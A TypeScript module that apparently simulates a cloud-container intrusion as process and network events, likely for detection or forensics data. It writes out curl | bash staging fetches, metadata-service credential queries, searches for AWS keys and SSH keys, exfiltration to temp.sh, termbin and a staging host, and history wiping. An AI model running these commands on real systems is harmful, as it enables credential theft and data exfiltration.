import type { World } from '../api.ts'
import { aptInstall } from '../packages.ts'
import type { Process } from '../processes.ts'
import { connect, end, read, run, start, write } from '../runtime.ts'
import { MS_US, SECOND_US } from '../timeline.ts'
import { EARLIER_IP, FARGATE_IP, IMDS_IP, STAGING_IP, TEMP_SH, TERMBIN } from './indicators.ts'
import { at, attackStep } from './story.ts'

/** Steps 1 to 7: a shell from the notebook, staged scripts, tools, metadata service, credentials, loot out, traces away. */

const HOME = '/home/jovyan'

/** A curl that opens one connection. */
export function curl(
  world: World,
  parent: Process,
  at_us: number,
  args: readonly string[],
  peer: { readonly ip: string; readonly port: number },
  ending: { readonly lasts_us?: number; readonly status?: number } = {}
): void {
  const process = run(world, parent, at_us, { binary: '/usr/bin/curl', args, lasts_us: 180 * MS_US, ...ending })
  connect(world, process, at_us + 14 * MS_US, peer.ip, peer.port)
}

/** Step 1: the attacker opens a terminal in the unprotected JupyterLab and looks around. */
export function openTerminal(world: World, jupyter: Process): Process {
  const step = attackStep(world, 1, 'terminal')
  const shell = start(step, jupyter, at('3:05'), { binary: '/bin/bash', args: ['-l'], cwd: HOME })
  const commands: readonly (readonly [string, string, readonly string[]])[] = [
    ['3:09', '/usr/bin/id', []],
    ['3:11', '/usr/bin/whoami', []],
    ['3:14', '/usr/bin/uname', ['-a']],
    ['3:19', '/usr/bin/cat', ['/etc/os-release']],
    ['3:24', '/usr/bin/nproc', []],
    ['3:29', '/usr/bin/ps', ['aux']],
    ['3:36', '/usr/bin/ls', ['-la', '/root', HOME]]
  ]
  for (const [when, binary, args] of commands) run(step, shell, at(when), { binary, args })
  return shell
}

/** Step 2: `curl | bash` from a bare address with dot directories, then the script fetches the next one over /dev/tcp. */
export function fetchScripts(world: World, shell: Process): Process {
  const step = attackStep(world, 2, 'scripts')
  curl(step, shell, at('4:02'), ['-fsSL', `http://${STAGING_IP}/.bin/.g/.a.sh`], { ip: STAGING_IP, port: 80 })
  const first = start(step, shell, at('4:02.001'), { binary: '/usr/bin/bash' })
  run(step, first, at('4:03'), { binary: '/usr/bin/mkdir', args: ['-p', '/tmp/.x'] })
  connect(step, first, at('4:05'), STAGING_IP, 80)
  run(step, first, at('4:05.030'), { binary: '/usr/bin/cat' })
  run(step, first, at('4:06'), { binary: '/usr/bin/chmod', args: ['+x', '/tmp/.x/.a.i.sh'] })
  return start(step, first, at('4:06.200'), { binary: '/usr/bin/bash', args: ['/tmp/.x/.a.i.sh'], cwd: '/tmp/.x' })
}

/** Step 3: tools are installed into the running container. */
export function installTools(world: World, script: Process): void {
  const step = attackStep(world, 3, 'tools')
  const packages = ['curl', 'netcat-openbsd', 'awscli', 'iptables', 'xz-utils']
  aptInstall(step, script, at('4:20'), { packages, download_us: 14 * SECOND_US })
}

/** Step 4: the metadata service: version 1 answers, version 2's token request and the Fargate endpoint do not. */
export function askMetadata(world: World, script: Process): void {
  const step = attackStep(world, 4, 'metadata')
  const imds = { ip: IMDS_IP, port: 80 }
  const roles = `http://${IMDS_IP}/latest/meta-data/iam/security-credentials/`
  curl(step, script, at('6:20'), ['-s', '--max-time', '3', roles], imds)
  curl(step, script, at('6:21'), ['-s', '--max-time', '3', `${roles}prod-eu-1-node`], imds)
  const token = [
    '-s',
    '--max-time',
    '3',
    '-X',
    'PUT',
    `http://${IMDS_IP}/latest/api/token`,
    '-H',
    'X-aws-ec2-metadata-token-ttl-seconds: 21600'
  ]
  curl(step, script, at('6:23'), token, imds, { lasts_us: 3 * SECOND_US, status: 28 })
  const fargate = ['-s', '--max-time', '3', `http://${FARGATE_IP}/v2/credentials`]
  curl(step, script, at('6:27'), fargate, { ip: FARGATE_IP, port: 80 }, { lasts_us: 3 * SECOND_US, status: 28 })
}

const CREDENTIAL_FILES = [
  `${HOME}/.aws/credentials`,
  `${HOME}/.git-credentials`,
  `${HOME}/.docker/config.json`,
  `${HOME}/.kube/config`,
  `${HOME}/.ssh/id_ed25519`
]

/** Step 5: files and environments are searched for credentials. */
export function collectCredentials(world: World, script: Process): void {
  const step = attackStep(world, 5, 'credentials')
  const searches: readonly (readonly string[])[] = [
    ['/', '-maxdepth', '5', '-type', 'f', '-name', 'credentials', '-path', '*/.aws/*'],
    ['/root', '/home', '-type', 'f', '-name', 'id_rsa', '-o', '-name', 'id_ed25519'],
    ['/root', '/home', '-type', 'f', '-name', '.git-credentials', '-o', '-name', '.netrc', '-o', '-name', '.s3cfg'],
    ['/', '-maxdepth', '5', '-type', 'f', '-path', '*/.docker/config.json', '-o', '-path', '*/.kube/config']
  ]
  for (const [place, args] of searches.entries())
    run(step, script, at('6:50') + place * 4 * SECOND_US, { binary: '/usr/bin/find', args, lasts_us: 2 * SECOND_US })
  run(step, script, at('7:08'), {
    binary: '/usr/bin/grep',
    args: ['-rlE', 'AKIA[0-9A-Z]{16}|aws_secret_access_key|BEGIN OPENSSH PRIVATE KEY', HOME, '/etc', '/opt'],
    lasts_us: 5 * SECOND_US
  })
  for (const [place, path] of CREDENTIAL_FILES.entries()) {
    const at_us = at('7:16') + place * 700 * MS_US
    read(step, run(step, script, at_us, { binary: '/usr/bin/cat', args: [path] }), at_us + MS_US, path, '-rw-------')
  }
  run(step, script, at('7:24'), { binary: '/usr/bin/env' })
  for (const [place, pid] of [1, 7, 8, 112, 164].entries()) {
    const at_us = at('7:26') + place * 300 * MS_US
    const path = `/proc/${pid}/environ`
    read(step, run(step, script, at_us, { binary: '/usr/bin/cat', args: [path] }), at_us + MS_US, path, '-r--------')
  }
}

/** Step 6: loot goes to the staging server, to termbin and to temp.sh. */
export function exfiltrate(world: World, script: Process): void {
  const step = attackStep(world, 6, 'loot')
  const loot = '/tmp/.x/.cd.tgz'
  run(step, script, at('8:30'), { binary: '/usr/bin/tar', args: ['-czf', loot, '/tmp/.x/.cd'], lasts_us: 80 * MS_US })
  run(step, script, at('8:32'), { binary: '/usr/bin/base64', args: ['-w0', loot] })
  curl(step, script, at('8:34'), ['-s', '-F', `file=@${loot}`, `http://${STAGING_IP}/.bin/up.php`], {
    ip: STAGING_IP,
    port: 80
  })
  curl(
    step,
    script,
    at('8:41'),
    ['-s', `http://${EARLIER_IP}/in/in.php?base64=W2RlZmF1bHRdCmF3c19hY2Nlc3Nfa2V5X2lkID0g`],
    { ip: EARLIER_IP, port: 80 }
  )
  run(step, script, at('8:48'), { binary: '/usr/bin/cat', args: ['/tmp/.x/.cd'] })
  const nc = run(step, script, at('8:48.002'), {
    binary: '/usr/bin/nc',
    args: [TERMBIN.name, String(TERMBIN.port)],
    lasts_us: SECOND_US
  })
  connect(step, nc, at('8:48.040'), TERMBIN.ip, TERMBIN.port)
  curl(step, script, at('8:55'), ['-s', '-F', `file=@${loot}`, `https://${TEMP_SH.name}/upload`], TEMP_SH)
}

/** Step 6 again, with the cluster's secrets. */
export function exfiltrateSecrets(world: World, shell: Process): void {
  const step = attackStep(world, 6, 'secrets')
  run(step, shell, at('22:00'), {
    binary: '/usr/bin/tar',
    args: ['-czf', '/tmp/.x/s.tgz', '/tmp/.x/secrets'],
    lasts_us: 60 * MS_US
  })
  curl(step, shell, at('22:04'), ['-s', '-T', '/tmp/.x/s.tgz', `https://${TEMP_SH.name}/s.tgz`], TEMP_SH)
  const nc = run(step, shell, at('22:12'), {
    binary: '/usr/bin/nc',
    args: [TERMBIN.name, String(TERMBIN.port)],
    lasts_us: SECOND_US
  })
  connect(step, nc, at('22:12.040'), TERMBIN.ip, TERMBIN.port)
}

/** Step 7: traces are removed; flushing iptables needs a capability the container does not have. */
export function cleanUp(world: World, script: Process, when: '9:20' | '23:20', files: readonly string[]): void {
  const step = attackStep(world, 7, `clean-up/${when}`)
  const begun_us = at(when)
  run(step, script, begun_us, { binary: '/usr/bin/bash', args: ['-c', 'history -cw; unset HISTFILE'] })
  write(step, script, begun_us + 300 * MS_US, `${HOME}/.bash_history`, '-rw-------')
  run(step, script, begun_us + SECOND_US, { binary: '/usr/bin/rm', args: ['-rf', ...files] })
  for (const [place, flag] of ['-F', '-X'].entries()) {
    run(step, script, begun_us + (2 + place) * SECOND_US, { binary: '/usr/sbin/iptables', args: [flag], status: 4 })
  }
}

/** The installing script is done. */
export function endScript(world: World, script: Process): void {
  end(attackStep(world, 7, 'script-end'), script, at('9:26'))
}
